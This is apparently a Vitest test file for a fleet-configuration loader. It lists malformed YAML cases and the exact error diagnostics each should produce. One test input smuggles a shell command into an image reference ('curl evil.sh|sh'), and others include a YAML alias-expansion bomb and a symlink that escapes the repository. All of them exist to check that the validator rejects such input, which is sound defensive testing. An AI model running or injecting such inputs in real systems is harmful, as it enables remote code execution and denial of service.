/**
 * The invalid-fleet corpus: each case is the valid base fleet with one thing broken, and the
 * exact errors (file, line, column, path, message) it must produce — nothing more, nothing less.
 */
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Diagnostic } from '../../src/desired/diagnostics.js';
import { loadFleet } from '../../src/desired/load.js';
import { BASE_FILES, makeFleet, removeFleets, tenantYaml, workspaceYaml } from './fleet-fixture.js';

afterAll(removeFleets);

type Expected = Omit<Diagnostic, 'severity'>;
interface Case {
  name: string;
  changes?: Record<string, string | Buffer | null>;
  setup?: (dir: string) => void;
  errors: Expected[];
}

const T = 'tenants/acme/tenant.yaml';
const W = 'tenants/acme/workspaces/main.yaml';
const ORG2 = '5f0c6a52-3b1e-4c8e-9a57-2d41e8a0b002';
const WS2 = '0b8e4f7a-61c2-4d3e-8f90-a1b2c3d4e002';
const fleetWith = (extra: string) => BASE_FILES['fleet.yaml'] + extra;
const tenantWith = (extra: string) => BASE_FILES[T] + extra;
const workspaceWith = (extra: string) => BASE_FILES[W] + extra;

const cases: Case[] = [
  // --- bad input: the file itself ---
  {
    name: 'broken YAML (unclosed flow sequence)',
    changes: { [T]: 'apiVersion: tenantform.dev/v1\nkind: Tenant\nslug: [acme\norgId: 5f0c6a52-3b1e-4c8e-9a57-2d41e8a0b001\n' },
    errors: [{ file: T, line: 4, col: 1, path: '', message: 'YAML syntax error: Flow sequence in block collection must be sufficiently indented and end with a ].' }],
  },
  {
    name: 'unclosed quote: placed at the end of the last line, not on a line the file does not have',
    changes: { [T]: 'apiVersion: tenantform.dev/v1\nkind: Tenant\nslug: acme\norgId: "5f0c6a52\ncanary: true\n\n' },
    errors: [{ file: T, line: 5, col: 13, path: '', message: 'YAML syntax error: Missing closing "quote.' }],
  },
  {
    name: 'duplicate key',
    changes: { [T]: tenantWith('slug: acme\n') },
    errors: [{ file: T, line: 5, col: 1, path: '', message: 'The key "slug" appears more than once in the same mapping; keep one.' }],
  },
  {
    name: 'two YAML documents in one file',
    changes: { [T]: `${BASE_FILES[T]}---\n${tenantYaml('other', ORG2)}` },
    errors: [{ file: T, line: 5, col: 1, path: '', message: 'The file holds 2 YAML documents; put exactly one document in each file.' }],
  },
  {
    name: 'alias expansion bomb',
    changes: {
      [W]: workspaceWith(
        'notes:\n  a: &a [x, x, x, x, x, x, x, x, x, x]\n  b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n  c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\n  d: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n',
      ),
    },
    errors: [{ file: W, line: 8, col: 10, path: '', message: 'YAML aliases expand this file beyond the limit of 100 alias uses; write the values out instead.' }],
  },
  {
    name: 'file over 1 MiB',
    changes: { [W]: workspaceWith(`# ${'x'.repeat(1024 * 1024)}\n`) },
    errors: [{ file: W, line: 1, col: 1, path: '', message: 'The file is 1.0 MiB; fleet files are limited to 1 MiB.' }],
  },
  {
    name: 'invalid UTF-8',
    changes: { [T]: Buffer.concat([Buffer.from(tenantWith('# caf')), Buffer.from([0xc3, 0x28]), Buffer.from('\n')]) },
    errors: [{ file: T, line: 5, col: 6, path: '', message: 'The file is not valid UTF-8; save it with UTF-8 encoding.' }],
  },
  {
    name: 'empty file',
    changes: { [T]: '# nothing here yet\n' },
    errors: [{ file: T, line: 1, col: 1, path: '', message: 'The file is empty; it must hold one YAML document.' }],
  },
  {
    name: 'a list where a mapping belongs',
    changes: { [T]: '- slug: acme\n' },
    errors: [{ file: T, line: 1, col: 1, path: '', message: '"Tenant" must be a mapping, not a list.' }],
  },
  // --- bad input: the layout ---
  {
    name: 'symlink leaving the repository',
    setup: (dir) => {
      const outside = mkdtempSync(join(tmpdir(), 'tenantform-outside-'));
      writeFileSync(join(outside, 'secret.yaml'), workspaceYaml(WS2));
      symlinkSync(join(outside, 'secret.yaml'), join(dir, 'tenants/acme/workspaces/leak.yaml'));
    },
    errors: [
      { file: 'tenants/acme/workspaces/leak.yaml', line: 1, col: 1, path: '', message: 'The symlink points outside the repository; fleet files must live inside it.' },
    ],
  },
  {
    name: 'stray file in tenants/',
    changes: { 'tenants/notes.yaml': 'hello: world\n' },
    errors: [
      { file: 'tenants/notes.yaml', line: 1, col: 1, path: '', message: 'Unexpected file in tenants/: only tenant folders belong here (tenants/<slug>/tenant.yaml).' },
    ],
  },
  {
    name: 'stray file in a tenant folder',
    changes: { 'tenants/acme/tenant.yml': 'x: 1\n' },
    errors: [
      {
        file: 'tenants/acme/tenant.yml',
        line: 1,
        col: 1,
        path: '',
        message: 'Unexpected entry in a tenant folder (rename it to tenant.yaml): only tenant.yaml and workspaces/ belong here.',
      },
    ],
  },
  {
    name: 'workspace file with the .yml extension',
    changes: { 'tenants/acme/workspaces/extra.yml': workspaceYaml(WS2) },
    errors: [
      {
        file: 'tenants/acme/workspaces/extra.yml',
        line: 1,
        col: 1,
        path: '',
        message: 'Unexpected entry in workspaces/ (rename it to .yaml): only <name>.yaml workspace files belong here.',
      },
    ],
  },
  {
    name: 'workspace file name that is not a name',
    changes: { 'tenants/acme/workspaces/Main_2.yaml': workspaceYaml(WS2) },
    errors: [
      {
        file: 'tenants/acme/workspaces/Main_2.yaml',
        line: 1,
        col: 1,
        path: '',
        message: 'The workspace file name "Main_2" is not a valid name: use lower-case letters, digits and hyphens, at most 63 characters.',
      },
    ],
  },
  {
    name: 'tenant folder without tenant.yaml',
    changes: { 'tenants/globex/workspaces/ops.yaml': workspaceYaml(WS2) },
    errors: [
      { file: 'tenants/globex', line: 1, col: 1, path: '', message: 'The tenant folder tenants/globex has no tenant.yaml; add one (kind: Tenant) or remove the folder.' },
    ],
  },
  {
    name: 'hidden tenant folder (a renamed tenant would be planned for deletion)',
    changes: { 'tenants/.globex/tenant.yaml': tenantYaml('globex', ORG2), 'tenants/.gitkeep': '' },
    errors: [
      {
        file: 'tenants/.globex',
        line: 0,
        col: 0,
        path: '',
        message:
          'The folder tenants/.globex is hidden (its name starts with a dot), so its tenant would be read as undeclared and planned for deletion; rename it to tenants/globex or remove it.',
      },
    ],
  },
  {
    name: 'hidden workspace file',
    changes: { 'tenants/acme/workspaces/.ops.yaml': workspaceYaml(WS2), 'tenants/acme/workspaces/.DS_Store': '' },
    errors: [
      {
        file: 'tenants/acme/workspaces/.ops.yaml',
        line: 0,
        col: 0,
        path: '',
        message:
          'The workspace file tenants/acme/workspaces/.ops.yaml is hidden (its name starts with a dot), so its workspace would be read as undeclared and planned for deletion; rename it without the dot or remove it.',
      },
    ],
  },
  {
    name: 'repository with no tenants',
    changes: { [T]: null, [W]: null },
    // The folder as a whole (no line: there is no file to point into), not a bogus tenants:1:1.
    errors: [
      {
        file: 'tenants/',
        line: 0,
        col: 0,
        path: '',
        message: 'The fleet declares no tenants; an empty fleet would plan deleting every tenant, so pass --allow-empty if that is what you mean.',
      },
    ],
  },
  {
    name: 'missing fleet.yaml',
    changes: { 'fleet.yaml': null, 'fleet.yml': BASE_FILES['fleet.yaml']! },
    errors: [
      {
        file: 'fleet.yaml',
        line: 1,
        col: 1,
        path: '',
        message: 'fleet.yaml is missing from the repository root (found fleet.yml: rename it to fleet.yaml); every fleet repository starts with one (kind: Fleet).',
      },
    ],
  },
  // --- schema ---
  {
    name: 'unknown key with a likely typo',
    changes: { [T]: tenantWith('instnaceType: t3.small\n') },
    errors: [{ file: T, line: 5, col: 1, path: 'instnaceType', message: 'Unknown key "instnaceType"; did you mean "instanceType"?' }],
  },
  {
    name: 'unknown key in a nested mapping',
    changes: { 'fleet.yaml': fleetWith('guards:\n  maxDelete: 5\n  sweep: true\n') },
    errors: [
      { file: 'fleet.yaml', line: 12, col: 3, path: 'guards.maxDelete', message: 'Unknown key "maxDelete"; did you mean "maxDeletes"?' },
      { file: 'fleet.yaml', line: 13, col: 3, path: 'guards.sweep', message: 'Unknown key "sweep"; allowed keys here are maxDeletes, maxTerminations, maxReplacements.' },
    ],
  },
  {
    name: 'missing required orgId',
    changes: { [T]: 'apiVersion: tenantform.dev/v1\nkind: Tenant\nslug: acme\n' },
    errors: [{ file: T, line: 1, col: 1, path: 'orgId', message: 'The required key "orgId" is missing.' }],
  },
  {
    name: 'wrong apiVersion',
    changes: { [W]: BASE_FILES[W]!.replace('tenantform.dev/v1', 'tenantform.dev/v2') },
    errors: [{ file: W, line: 1, col: 13, path: 'apiVersion', message: '"apiVersion" must be tenantform.dev/v1, not "tenantform.dev/v2".' }],
  },
  {
    name: 'a workspace document in tenant.yaml',
    changes: { [T]: workspaceYaml(WS2) },
    errors: [{ file: T, line: 2, col: 7, path: 'kind', message: 'This file must hold a Tenant, but it declares kind "Workspace".' }],
  },
  {
    name: 'slug that is not a DNS label',
    changes: { [T]: null, [W]: null, 'tenants/Acme_Corp/tenant.yaml': tenantYaml('Acme_Corp', ORG2) },
    errors: [
      {
        file: 'tenants/Acme_Corp/tenant.yaml',
        line: 3,
        col: 7,
        path: 'slug',
        message: '"Acme_Corp" is not a valid slug: use lower-case letters, digits and hyphens, at most 63 characters, starting and ending with a letter or digit.',
      },
    ],
  },
  {
    name: 'slug longer than 63 characters',
    changes: { [T]: null, [W]: null, [`tenants/${'a'.repeat(64)}/tenant.yaml`]: tenantYaml('a'.repeat(64), ORG2) },
    errors: [
      {
        file: `tenants/${'a'.repeat(64)}/tenant.yaml`,
        line: 3,
        col: 7,
        path: 'slug',
        message: `"${'a'.repeat(57)}..." is not a valid slug: use lower-case letters, digits and hyphens, at most 63 characters, starting and ending with a letter or digit.`,
      },
    ],
  },
  {
    name: 'orgId that is not a UUID',
    changes: { [T]: tenantYaml('acme', '5F0C6A52-3B1E-4C8E-9A57-2D41E8A0B001') },
    errors: [
      {
        file: T,
        line: 4,
        col: 8,
        path: 'orgId',
        message: '"5F0C6A52-3B1E-4C8E-9A57-2D41E8A0B001" is not a UUID in canonical lower-case form (8-4-4-4-12 hexadecimal digits).',
      },
    ],
  },
  {
    name: 'power that is neither running nor stopped',
    changes: { [W]: workspaceWith('power: paused\n') },
    errors: [{ file: W, line: 6, col: 8, path: 'power', message: '"power" must be one of running, stopped, not "paused".' }],
  },
  {
    name: 'canary written as a string',
    changes: { [T]: tenantWith('canary: "yes"\n') },
    errors: [{ file: T, line: 5, col: 9, path: 'canary', message: '"canary" must be true or false, not "yes".' }],
  },
  {
    name: 'image reference holding shell syntax',
    changes: { [W]: workspaceWith('image: "ghcr.io/acme/agent:1.0;curl evil.sh|sh"\n') },
    errors: [
      {
        file: W,
        line: 6,
        col: 8,
        path: 'image',
        message:
          'The image reference "ghcr.io/acme/agent:1.0;curl evil.sh|sh" contains ";", which a shell would interpret; an image reference holds only letters, digits and . _ - / : @.',
      },
    ],
  },
  {
    name: 'image reference with an upper-case repository',
    changes: { 'fleet.yaml': BASE_FILES['fleet.yaml']!.replace('ghcr.io/example/platform:1.4.2', 'ghcr.io/Example/platform:1.4.2') },
    errors: [
      {
        file: 'fleet.yaml',
        line: 6,
        col: 14,
        path: 'tenantImage',
        message: '"ghcr.io/Example/platform:1.4.2" is not a valid OCI image reference such as ghcr.io/acme/platform:1.4.2.',
      },
    ],
  },
  {
    name: 'AMI pin that is not an AMI id',
    changes: { 'fleet.yaml': BASE_FILES['fleet.yaml']!.replace('ami-0a1b2c3d4e5f60718', 'ami-XYZ') },
    errors: [
      {
        file: 'fleet.yaml',
        line: 10,
        col: 16,
        path: 'amiPins.hermes.us-east-2',
        message: '"ami-XYZ" is not an AMI id (ami- followed by 8 or 17 lower-case hexadecimal digits).',
      },
    ],
  },
  {
    name: 'runtime name in a map key that is not a runtime name',
    changes: { 'fleet.yaml': fleetWith('volumeFloors:\n  Hermes: 50\n') },
    errors: [
      {
        file: 'fleet.yaml',
        line: 12,
        col: 3,
        path: 'volumeFloors.Hermes',
        message: '"Hermes" is not a valid runtime name: use lower-case letters, digits and hyphens, starting with a letter, at most 32 characters.',
      },
    ],
  },
  {
    name: 'region that is not a region',
    changes: { 'fleet.yaml': BASE_FILES['fleet.yaml']!.replace('region: us-east-2', 'region: Ohio') },
    errors: [{ file: 'fleet.yaml', line: 4, col: 9, path: 'region', message: '"Ohio" is not an AWS region name such as us-east-2.' }],
  },
  {
    name: 'appDomain that is not a domain',
    changes: { 'fleet.yaml': BASE_FILES['fleet.yaml']!.replace('tenants.example.dev', 'https://tenants.example.dev/') },
    errors: [
      { file: 'fleet.yaml', line: 5, col: 12, path: 'appDomain', message: '"https://tenants.example.dev/" is not a lower-case domain name such as tenants.example.dev.' },
    ],
  },
  {
    name: 'secret recovery window under the Secrets Manager minimum',
    changes: { 'fleet.yaml': fleetWith('deletion:\n  secretRecoveryWindowDays: 3\n') },
    errors: [{ file: 'fleet.yaml', line: 12, col: 29, path: 'deletion.secretRecoveryWindowDays', message: '"secretRecoveryWindowDays" must be at least 7, not 3.' }],
  },
  {
    name: 'rollout batch written as a bare number string',
    changes: { 'fleet.yaml': fleetWith('rollout:\n  batches: [1, "10", "100%"]\n') },
    errors: [
      { file: 'fleet.yaml', line: 12, col: 16, path: 'rollout.batches[1]', message: '"10" is not a batch size: write a count such as 5 or a percentage such as "25%".' },
    ],
  },
  {
    name: 'rollout batch of zero tenants',
    changes: { 'fleet.yaml': fleetWith('rollout:\n  batches: [0, "100%"]\n') },
    errors: [{ file: 'fleet.yaml', line: 12, col: 13, path: 'rollout.batches[0]', message: '"0" must be at least 1, not 0.' }],
  },
  // --- rules beyond the schema ---
  {
    name: 'rollout percentage over 100',
    changes: { 'fleet.yaml': fleetWith('rollout:\n  batches: [1, "150%"]\n') },
    errors: [{ file: 'fleet.yaml', line: 12, col: 16, path: 'rollout.batches[1]', message: 'Batch 2 is 150%; a percentage batch must be between 1% and 100%.' }],
  },
  {
    name: "platform port 22 (the EIC rule's port, which would open SSH to the whole VPC)",
    changes: { 'fleet.yaml': fleetWith('tenant:\n  platformPort: 22\n') },
    errors: [
      {
        file: 'fleet.yaml',
        line: 12,
        col: 17,
        path: 'tenant.platformPort',
        message:
          "The platform port cannot be 22: the platform port is opened to the whole VPC CIDR, while tcp/22 is the EC2 Instance Connect rule, open only to the EIC endpoint's security group.",
      },
    ],
  },
  {
    name: 'rollout percentage far over 100, alone',
    changes: { 'fleet.yaml': fleetWith('rollout:\n  batches: ["250%"]\n') },
    errors: [{ file: 'fleet.yaml', line: 12, col: 13, path: 'rollout.batches[0]', message: 'Batch 1 is 250%; a percentage batch must be between 1% and 100%.' }],
  },
  {
    name: 'rollout batch after a 100% batch',
    changes: { 'fleet.yaml': fleetWith('rollout:\n  batches:\n    - "100%"\n    - 5\n') },
    errors: [
      {
        file: 'fleet.yaml',
        line: 14,
        col: 7,
        path: 'rollout.batches[1]',
        message: 'Batch 2 follows the 100% batch 1, which already covers every remaining tenant; remove it.',
      },
    ],
  },
  {
    name: 'tier clamp naming a tier not in the table',
    changes: { 'fleet.yaml': fleetWith('tierClamp: { min: T4, max: T5 }\n') },
    errors: [{ file: 'fleet.yaml', line: 11, col: 28, path: 'tierClamp.max', message: 'The clamp bound max names tier "T5", which is not in the tier table (T3, T4).' }],
  },
  {
    name: 'tier clamp naming a reserved tier',
    changes: { 'fleet.yaml': fleetWith('tierClamp:\n  min: T3\n  max: T4\n') },
    errors: [{ file: 'fleet.yaml', line: 12, col: 8, path: 'tierClamp.min', message: 'The clamp bound min names tier "T3", which is reserved; clamp to a usable tier.' }],
  },
  {
    name: 'tier clamp min after max',
    changes: {
      'fleet.yaml': fleetWith(
        'tiers:\n  - { name: S, instanceType: t3.small, volumeGb: 20 }\n  - { name: M, instanceType: t3.medium, volumeGb: 40 }\ntierClamp: { min: M, max: S }\n',
      ),
    },
    errors: [
      {
        file: 'fleet.yaml',
        line: 14,
        col: 19,
        path: 'tierClamp.min',
        message: 'The clamp min tier "M" comes after the max tier "S" in the tier table, which lists tiers smallest first.',
      },
    ],
  },
  {
    name: 'tier listed twice',
    changes: {
      'fleet.yaml': fleetWith('tiers:\n  - { name: T4, instanceType: t3.large, volumeGb: 80 }\n  - name: T4\n    instanceType: t3.xlarge\n    volumeGb: 100\n'),
    },
    errors: [{ file: 'fleet.yaml', line: 13, col: 11, path: 'tiers[1].name', message: 'Tier "T4" is listed twice in the tier table; tier names must be unique.' }],
  },
  {
    name: 'slug that differs from its folder',
    changes: { [T]: tenantYaml('acme-corp', '5f0c6a52-3b1e-4c8e-9a57-2d41e8a0b001') },
    errors: [{ file: T, line: 3, col: 7, path: 'slug', message: 'The slug "acme-corp" does not match its folder tenants/acme; a tenant\'s slug is its folder name.' }],
  },
  {
    name: 'orgId used by two tenants',
    changes: { 'tenants/globex/tenant.yaml': tenantYaml('globex', '5f0c6a52-3b1e-4c8e-9a57-2d41e8a0b001') },
    errors: [
      {
        file: 'tenants/globex/tenant.yaml',
        line: 4,
        col: 8,
        path: 'orgId',
        message: `The orgId 5f0c6a52-3b1e-4c8e-9a57-2d41e8a0b001 is already used at ${T}:4:8; every tenant needs its own orgId.`,
      },
    ],
  },
  {
    name: 'workspace id used twice across tenants',
    changes: {
      'tenants/globex/tenant.yaml': tenantYaml('globex', ORG2),
      'tenants/globex/workspaces/ops.yaml': workspaceYaml('0b8e4f7a-61c2-4d3e-8f90-a1b2c3d4e001'),
    },
    errors: [
      {
        file: 'tenants/globex/workspaces/ops.yaml',
        line: 3,
        col: 5,
        path: 'id',
        message: `The workspace id 0b8e4f7a-61c2-4d3e-8f90-a1b2c3d4e001 is already used at ${W}:3:5; every workspace needs its own id.`,
      },
    ],
  },
  {
    name: 'workspace tier not in the tier table',
    changes: { [W]: workspaceYaml('0b8e4f7a-61c2-4d3e-8f90-a1b2c3d4e001', '', 'hermes', 'T9') },
    errors: [{ file: W, line: 5, col: 7, path: 'tier', message: 'Tier "T9" is not in the fleet tier table (T3, T4).' }],
  },
  {
    name: 'several problems in several files, all reported in one run',
    changes: {
      [T]: tenantWith('power: off\n'),
      [W]: workspaceWith('tier: T3\n'),
      'fleet.yaml': fleetWith('guards: { maxDeletes: -1 }\n'),
    },
    errors: [
      { file: 'fleet.yaml', line: 11, col: 23, path: 'guards.maxDeletes', message: '"maxDeletes" must be at least 0, not -1.' },
      { file: T, line: 5, col: 8, path: 'power', message: '"power" must be one of running, stopped, not "off".' },
      { file: W, line: 6, col: 1, path: '', message: 'The key "tier" appears more than once in the same mapping; keep one.' },
    ],
  },
];

describe('invalid fleet corpus', () => {
  it('holds at least 30 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
  });

  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const dir = makeFleet(c.changes);
    c.setup?.(dir);
    const { state, diagnostics } = await loadFleet(dir);
    const errors = diagnostics.filter((d) => d.severity === 'error').map(({ severity: _s, ...rest }) => rest);
    expect(errors).toEqual(c.errors);
    expect(state).toBeUndefined();
  });
});

describe('the valid base fleet', () => {
  it('loads without errors, so every corpus case fails for its own reason', async () => {
    const { state, diagnostics } = await loadFleet(makeFleet());
    expect(diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(state?.tenants.map((t) => t.spec.slug)).toEqual(['acme']);
  });
});

// A directory under tenants/acme/workspaces is as misplaced as a stray file.
describe('folders where files belong', () => {
  it('reports a folder inside workspaces/', async () => {
    const dir = makeFleet();
    mkdirSync(join(dir, 'tenants/acme/workspaces/nested'));
    const { diagnostics } = await loadFleet(dir);
    expect(diagnostics.filter((d) => d.severity === 'error')).toEqual([
      {
        severity: 'error',
        file: 'tenants/acme/workspaces/nested',
        line: 1,
        col: 1,
        path: '',
        message: 'Unexpected entry in workspaces/: only <name>.yaml workspace files belong here.',
      },
    ]);
  });
});
